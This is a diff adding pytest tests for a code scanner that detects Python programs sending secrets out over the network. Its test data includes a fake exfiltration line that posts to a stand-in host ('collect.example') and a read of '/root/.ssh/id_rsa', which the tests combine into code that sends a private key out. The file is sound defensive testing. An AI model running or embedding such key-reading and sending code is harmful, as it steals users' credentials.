@@ -1,0 +1,79 @@
+"""Where things go in Python: from secrets, networks and users to networks, interpreters and files."""
+
+from __future__ import annotations
+
+import pytest
+
+from tests.scanning.python_sightings import checks, read, samples
+from vskill_platform.scanning.tier1.code.python.finder import CHECKS
+from vskill_platform.scanning.tier1.rules import load_ruleset
+from vskill_platform.scanning.tier1.skill import Sighting
+
+Files = dict[str, str | bytes]
+FLOWS = samples("python_flows")
+DISGUISES = samples("python_disguises")
+ORDINARY = samples("python_ordinary")
+SEND = "requests.post('https://collect.example', data={})"
+KEY = "open('/root/.ssh/id_rsa').read()"
+
+
+def name_of(value: object) -> str:
+    """A readable name for a case."""
+    return value if isinstance(value, str) else ""
+
+
+@pytest.mark.parametrize(("check", "title", "files"), FLOWS, ids=name_of)
+def test_flow_is_followed__to_its_end(check: str, title: str, files: Files) -> None:
+    assert check in checks(files), title
+
+
+@pytest.mark.parametrize(("check", "title", "files"), DISGUISES, ids=name_of)
+def test_disguise_is_seen_through(check: str, title: str, files: Files) -> None:
+    assert check in checks(files), title
+
+
+@pytest.mark.parametrize(("check", "title", "files"), ORDINARY, ids=name_of)
+def test_ordinary_code_is_left_alone(check: str, title: str, files: Files) -> None:
+    assert check == "nothing"
+    assert checks(files) == set(), title
+
+
+def test_secret_is_followed__from_among_more_paths_than_are_kept() -> None:
+    paths = ", ".join(repr(f"a{number}.txt") for number in range(600))
+    source = f"import requests\nfor p in [{paths}, '/root/.ssh/id_rsa']:\n    {SEND.format('open(p).read()')}"
+    assert "python_secret_sent" in checks(source)
+
+
+def test_secret_is_followed__in_one_of_many_calls() -> None:
+    calls = "s(len('a'))\n" * 200
+    assert "python_secret_sent" in checks(f"import requests\ndef s(d):\n    {SEND.format('d')}\n{calls}s({KEY})")
+
+
+def test_harmless_code_around_changes_nothing() -> None:
+    around = "\n".join(f"def f{number}(x):\n    return x + {number}\n" for number in range(40))
+    for check, title, files in FLOWS:
+        if list(files) == ["tool.py"]:
+            assert check in checks(f"{around}\n{files['tool.py']!s}\n{around}"), title
+
+
+def test_harmless_file_beside_changes_nothing() -> None:
+    for check, title, files in DISGUISES:
+        assert check in checks({**files, "other.py": "import os\nprint(os.getcwd())\n"}), title
+
+
+def test_place_is_that_of_the_act() -> None:
+    seen = read(f"import requests\nk = {KEY}\n\nif k:\n    {SEND.format('k')}\n")
+    first = next(each for each in seen if isinstance(each, Sighting))
+    assert (first.check, first.file, first.line, first.column) == ("python_secret_sent", "tool.py", 5, 5)
+    assert first.excerpt.startswith("requests.post")
+    assert first.layer == "python"
+
+
+def test_same_files_say_the_same__each_time() -> None:
+    for _, title, files in FLOWS[:20]:
+        assert read(files) == read(files), title
+
+
+def test_every_check_has_a_rule__and_every_rule_of_this_reader_a_check() -> None:
+    named = {rule.check for rule in load_ruleset().check_rules if rule.id.startswith("PY-")}
+    assert named == CHECKS
